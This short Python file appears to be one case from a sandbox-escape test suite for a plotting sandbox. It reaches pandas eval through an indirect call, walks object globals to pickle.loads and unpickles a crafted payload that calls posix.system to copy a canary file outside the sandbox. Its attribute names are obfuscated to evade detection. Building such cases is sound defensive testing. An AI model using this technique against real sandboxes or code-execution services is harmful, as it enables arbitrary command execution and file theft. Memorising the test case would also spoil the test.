# class: pickle_like
# technique: pickle.loads taken from sys.modules inside expression text (the loads name is a string, never an attribute node) on a GLOBAL posix.system + REDUCE pickle (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)

u = "_" * 2
cmd = "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-pickle"
blob = ("cposix\nsystem\n(S'" + cmd + "'\ntR.").encode()

rc = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['pickle'].loads(@b)", v=[np.vectorize], b=blob)
df = pd.DataFrame({"rc": [rc]})
